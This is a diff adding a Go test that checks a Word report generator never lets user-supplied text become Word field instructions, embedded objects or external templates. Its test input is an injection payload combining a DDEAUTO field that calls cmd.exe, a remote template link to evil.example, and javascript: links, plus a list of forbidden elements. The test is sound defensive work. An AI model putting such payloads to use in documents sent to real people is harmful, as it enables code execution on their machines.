@@ -97,6 +97,29 @@ func TestEveryPartOfTheWordReportFollowsTheSchema(t *testing.T) {
 	}
 }
 
+// Nothing that somebody wrote becomes an instruction to Word: fields are page
+// numbers and note numbers, and there is no object, template or foreign part.
+func TestTheWordReportObeysNobodysText(t *testing.T) {
+	evil := `</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\cmd.exe "/k x" </w:instrText></w:r><w:altChunk r:id="rId1"/>" TargetMode="External" Target="https://evil.example/x.dotm`
+	r := everywhere(evil)
+	r.Narrative = []consult.Passage{{Part: "introduction", Text: consult.Text{consult.English: evil + " [x](javascript:alert(1)) [y](https://a.example/\" TargetMode=\"External)"}}}
+	r.Agenda.Consultation.Deviations = []consult.Deviation{{Reason: consult.Text{consult.English: evil}}}
+	parts := wordOf(t, r, consult.English)
+	for name, content := range parts {
+		for _, field := range regexp.MustCompile(`<w:instrText[^>]*>([^<]*)<`).FindAllStringSubmatch(content, -1) {
+			if !regexp.MustCompile(`^ (PAGE|PAGEREF [\w-]+ \\h|NOTEREF [\w-]+ \\h) $`).MatchString(field[1]) {
+				t.Errorf("%s instructs Word: %s", name, field[1])
+			}
+		}
+		for _, element := range []string{"<w:altChunk", "<w:object", "<w:attachedTemplate", "<w:fldSimple", "<o:OLEObject", "attachedTemplate\""} {
+			if strings.Contains(content, element) {
+				t.Errorf("%s holds %s", name, element)
+			}
+		}
+	}
+	checkLinks(t, parts)
+}
+
 var (
 	relationOf = regexp.MustCompile(`Id="([^"]+)" Type="[^"]*/(\w+)" Target="([^"]+)"( TargetMode="External")?`)
 	usedID     = regexp.MustCompile(`r:(?:id|embed)="([^"]+)"`)
